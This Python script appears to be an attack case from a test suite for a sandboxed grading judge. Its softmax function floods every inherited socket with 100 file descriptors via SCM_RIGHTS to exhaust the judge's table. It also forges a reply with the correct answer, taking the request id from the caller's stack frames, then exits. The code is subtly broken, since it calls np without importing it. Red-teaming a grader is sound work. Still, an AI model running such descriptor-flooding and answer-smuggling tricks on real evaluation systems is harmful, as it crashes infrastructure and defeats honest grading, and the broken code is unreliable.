# /// attack
# does = "sends the judge descriptors along with the right answer, a hundred at a time, and exits"
# own = { softmax = ["crashed", "protocol"] }
# quick = true
# ///
"""A process of another user may be handed over as a pidfd, and a flood of descriptors uses up the judge's. The
judge makes no room for any, so the kernel drops them."""

import array
import contextlib
import os
import socket
import stat
import struct
import sys

import msgspec


def ends():
    """The sockets among what this process has inherited: the wire to the judge is one of them."""
    found = []
    for number in range(3, 400):
        with contextlib.suppress(OSError):
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                found.append(number)
    return found


def frame(reply, payload=b""):
    header = msgspec.msgpack.encode(reply)
    return struct.pack("<IQB", len(header), len(payload), 0) + header + payload


def request():
    """The question that is being answered, as the worker holds it."""
    at = sys._getframe()
    while at is not None:
        if hasattr(at.f_locals.get("request"), "operation"):
            return at.f_locals["request"]
        at = at.f_back


def value(number, array):
    form = ["a", "<f8", list(array.shape), "C", False, 0]
    payload = array.astype("<f8").tobytes()
    return frame([number, "value", form, None, None, [], [len(payload)]], payload + bytes(-len(payload) % 64))


def right(logits):
    powers = np.exp(logits - logits.max(axis=1, keepdims=True))
    return powers / powers.sum(axis=1, keepdims=True)


def softmax(logits):
    given = [os.open("/dev/null", os.O_RDONLY) for _ in range(100)]
    beside = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", given))]
    for number in ends():
        with contextlib.suppress(OSError):
            socket.socket(fileno=os.dup(number)).sendmsg([value(request().id, right(logits))], beside)
    os._exit(0)
